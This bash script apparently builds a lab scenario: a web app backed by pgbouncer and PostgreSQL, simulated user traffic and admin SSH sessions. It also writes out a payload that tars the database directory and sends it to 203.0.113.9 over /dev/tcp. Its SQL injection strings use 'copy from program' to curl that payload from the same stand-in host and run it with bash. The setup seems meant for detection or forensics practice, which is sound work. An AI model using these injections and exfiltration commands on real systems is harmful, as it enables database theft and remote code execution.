# shellcheck shell=bash disable=SC2034
HOST=pg19
FORMAT=RAW
UNSET=1

ask() { outside curl -s -o /dev/null --interface "$1" "http://10.88.0.10:8080/search?q=$(quoted "$2")"; }

administer() {
    outside ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b 10.88.0.55 -i "$work/dba.key" dba@10.88.0.10 "$1"
}

visits() {
    while :; do
        ask 192.0.2.7 chair &
        ask 192.0.2.41 table
        sleep 1
    done
}

scenario() {
    local pg=/usr/lib/postgresql/15/bin as_app=(setpriv --reuid 4050 --regid 4050 --clear-groups env HOME=/srv/home/web)
    mkdir -p /srv/pg /srv/bouncer /run/sshd "$work/theirs"
    account web 4050
    account dba 4051
    touch /srv/home/dba/.hushlogin
    cp "$folder/app.py" /srv/app.py
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    ssh-keygen -q -t ed25519 -N "" -f "$work/dba.key"
    install -m 600 -o dba "$work/dba.key.pub" /srv/home/dba/.ssh/authorized_keys
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' '[databases]' 'shop = host=127.0.0.1 port=5432 user=app' '[pgbouncer]' 'listen_addr = 127.0.0.1' 'listen_port = 6432' 'auth_type = any' \
        'unix_socket_dir =' 'pool_mode = transaction' 'default_pool_size = 2' 'min_pool_size = 2' 'server_idle_timeout = 600' 'logfile = /srv/bouncer/log' >/srv/bouncer/ini
    printf '%s\n' 'tar -c -z -f /srv/pg/.d.tgz -C /srv/pg PG_VERSION' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /srv/pg/.d.tgz >&3' >"$work/theirs/d"
    theirs
    chown postgres /srv/pg
    chown web /srv/bouncer /srv/bouncer/ini
    setpriv --reuid postgres --regid postgres --clear-groups $pg/initdb -D /srv/pg -A trust >/dev/null
    printf '%s\n' "create user app superuser; create user dba; create database shop;" "\\c shop" \
        "create table items (name text); insert into items values ('chair'), ('table'); grant select on items to dba;" >/srv/init.sql
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside setpriv --reuid postgres --regid postgres --clear-groups $pg/postgres -D /srv/pg -k /srv/pg >/dev/null 2>&1 &
    sleep 2
    inside setpriv --reuid postgres --regid postgres --clear-groups $pg/psql -q -h 127.0.0.1 postgres -f /srv/init.sql
    inside "${as_app[@]}" /usr/sbin/pgbouncer -q /srv/bouncer/ini >/dev/null 2>&1 &
    sleep 1
    inside "${as_app[@]}" /usr/bin/python3 -S -B /srv/app.py >/dev/null 2>&1 &
    sleep 1
    visits &
    local visits=$!
    sleep 4
    administer "$pg/psql -X -t -h 127.0.0.1 shop -c 'select count(*) from items'"
    sleep 1
    ask 198.51.100.23 "x'; create temp table t (x text); copy t from program 'curl -s -o /srv/pg/.d http://203.0.113.9:443/d'; --"
    sleep 2
    administer "$pg/psql -X -t -h 127.0.0.1 shop -c 'select max(name) from items'"
    sleep 2
    ask 198.51.100.23 "x'; create temp table u (x text); copy u from program 'bash /srv/pg/.d'; --"
    sleep 2
    administer "$pg/psql -X -t -h 127.0.0.1 shop -c 'select min(name) from items'"
    kill "$visits"
    sleep 1
}
